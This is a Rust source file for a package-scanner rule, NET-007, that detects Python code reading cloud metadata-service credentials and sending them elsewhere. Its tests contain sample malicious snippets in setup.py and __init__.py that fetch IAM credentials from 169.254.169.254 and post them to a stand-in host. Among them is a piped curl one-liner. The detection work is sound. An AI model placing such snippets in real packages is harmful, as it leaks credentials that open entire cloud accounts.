//! `NET-007`: credentials of the cloud machine leave.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, command_lines, hosts, sends};
use super::{Rule, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Label};

/// The rule.
pub(super) struct CloudCredentialsSent;

impl Rule for CloudCredentialsSent {
    fn id(&self) -> &'static str {
        "NET-007"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "answers of the cloud metadata service are sent away"
    }

    fn manual(&self) -> &'static str {
        "What the metadata service of a cloud machine answered reaches something that \
         sends elsewhere.\n\n\
         The service hands out the machine's credentials to whatever runs on it; sent \
         away, they open the whole account.\n\n\
         Mistaken for it: the clouds' own libraries. They ask the service and use the \
         answer, and send it to nobody else."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let sink = analysis.sink(flow);
            if flow.label != Label::CloudMetadata || !sends(flow.kind) || asks_service(sink) {
                continue;
            }
            let is_weak = flow.hops > FAR || matches!(&*flow.argument, "headers" | "auth");
            let worst = if is_weak {
                Severity::Medium
            } else {
                Severity::High
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} sends what the cloud's metadata service answered",
                sink.target
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis.calls() {
            if !command_lines(call).iter().any(|line| passes_on(line)) {
                continue;
            }
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(90).in_context(call.context);
            let message = format!(
                "{} sends what the cloud's metadata service answers",
                call.target
            );
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

const SERVICES: &[&str] = &[
    "169.254.169.254",
    "fd00:ec2::254",
    "metadata.google.internal",
];

fn asks_service(call: &Call) -> bool {
    hosts(call).iter().any(|host| SERVICES.contains(host))
}

/// A command that asks the service and then somebody else.
fn passes_on(command: &str) -> bool {
    let asks = SERVICES.iter().any(|service| command.contains(service));
    let sends = command.matches("curl ").count() + command.matches("wget ").count() > 1
        || command.contains("| nc ");
    asks && sends
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn answers_of_the_service_are_followed() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post('https://drop.invalid', data=t)",
            ),
            (
                "setup.py",
                "import urllib.request as u\nr = u.urlopen('http://metadata.google.internal/computeMetadata/v1/').read()\nu.urlopen('https://drop.invalid', data=r)",
            ),
            (
                "demo/__init__.py",
                "import requests, socket\nc = requests.get('http://[fd00:ec2::254]/latest/').content\ns = socket.socket()\ns.connect(('drop.invalid', 1))\ns.sendall(c)",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -s http://169.254.169.254/latest/ | curl -d @- https://drop.invalid')",
            ),
        ] {
            found("NET-007", path, code);
        }
    }

    #[test]
    fn asking_the_service_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests\nt = requests.put('http://169.254.169.254/latest/api/token').text\nrole = requests.get('http://169.254.169.254/latest/meta-data/', headers={'X-aws-ec2-metadata-token': t}).text",
            ),
            (
                "demo/__init__.py",
                "import requests\nregion = requests.get('http://169.254.169.254/latest/').text\nprint(region)",
            ),
        ] {
            quiet("NET-007", path, code);
        }
    }
}
